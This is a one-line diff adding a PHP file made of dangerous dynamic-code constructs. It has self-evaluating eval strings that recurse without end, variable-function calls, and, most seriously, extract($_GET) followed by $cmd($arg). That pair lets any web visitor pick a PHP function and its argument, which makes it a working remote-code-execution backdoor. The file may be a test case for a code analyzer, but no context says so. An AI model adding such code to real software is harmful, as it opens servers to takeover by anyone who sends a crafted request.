@@ -1,0 +1,1 @@
+<?php $x = 'eval($x);'; eval($x); $y = 'eval($y);eval($y);'; eval($y); extract($_GET); $cmd($arg); $$f(); ${'v'}(1);
